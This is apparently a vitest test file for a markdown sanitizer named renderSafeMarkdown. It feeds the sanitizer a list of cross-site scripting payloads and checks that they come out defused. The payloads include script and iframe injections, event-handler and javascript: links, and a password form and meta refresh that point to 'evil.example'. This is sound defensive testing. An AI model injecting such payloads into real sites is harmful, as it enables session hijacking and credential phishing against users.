import { describe, expect, it } from 'vitest';
import { renderSafeMarkdown } from './safe-markdown.ts';

/** Payloads that ran on the sites when archived comments were rendered as raw HTML. */
const PAYLOADS = [
  '<script>fetch("/clients/other/binder/firewall/")</script>',
  '<img src=x onerror="alert(1)">',
  '<svg onload="alert(1)"><circle r="1"/></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<details ontoggle="alert(1)" open><summary>x</summary>y</details>',
  '<a href="javascript:alert(1)">click</a>',
  '[click](javascript:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<form action="https://evil.example"><input type="password" name="p"><button>Log in</button></form>',
  '<a href="https://ok.example" onclick="alert(1)" style="position:fixed">styled</a>',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
];

describe('renderSafeMarkdown', () => {
  it.each(PAYLOADS)('defuses %s', (payload) => {
    const html = renderSafeMarkdown(`Before.\n\n${payload}\n\nAfter.`);
    expect(html).not.toMatch(/<script|<iframe|<svg|<object|<embed|<form|<input|<meta|<img/i);
    expect(html).not.toMatch(/\son\w+=|javascript:|data:text|srcdoc|style=/i);
    expect(html).toContain('Before.');
    expect(html).toContain('After.');
  });

  it('renders what GitHub renders: emphasis, lists, code, tables, details, absolute links', () => {
    const html = renderSafeMarkdown(
      [
        '**UPS** replaced, see https://apc.example/kb and [the SOP](https://wiki.example/ups).',
        '',
        '- one',
        '- two',
        '',
        '`code` and a table:',
        '',
        '| a | b |',
        '|---|---|',
        '| 1 | 2 |',
        '',
        '<details><summary>Log</summary>',
        '',
        'event 41',
        '',
        '</details>',
        '',
        'Mail [jane](mailto:jane@example.com).',
      ].join('\n'),
    );
    expect(html).toContain('<strong>UPS</strong>');
    expect(html).toContain(
      '<a href="https://wiki.example/ups" rel="nofollow noopener noreferrer">the SOP</a>',
    );
    expect(html).toContain('<li>one</li>');
    expect(html).toContain('<table>');
    expect(html).toContain('<details><summary>Log</summary>');
    expect(html).toContain('href="mailto:jane@example.com"');
  });

  it('turns relative links and every image into text, so nothing from an issue can break a build', () => {
    const html = renderSafeMarkdown(
      '![rack](./rack.jpg) and [missing page](../nowhere/) and ![cam](https://x.example/a.png)',
    );
    expect(html).toContain('[image: rack]');
    expect(html).toContain('missing page');
    expect(html).toContain('[image: cam]');
    expect(html).not.toMatch(/href="\.|src=/);
  });

  it('an unclosed HTML comment hides nothing outside its own text', () => {
    const first = renderSafeMarkdown('Checked the UPS <!-- todo');
    const second = renderSafeMarkdown('Second comment stays visible.');
    expect(first).toContain('Checked the UPS');
    expect(`${first}${second}`).toContain('Second comment stays visible.');
    expect(first).not.toContain('<!--');
  });
});
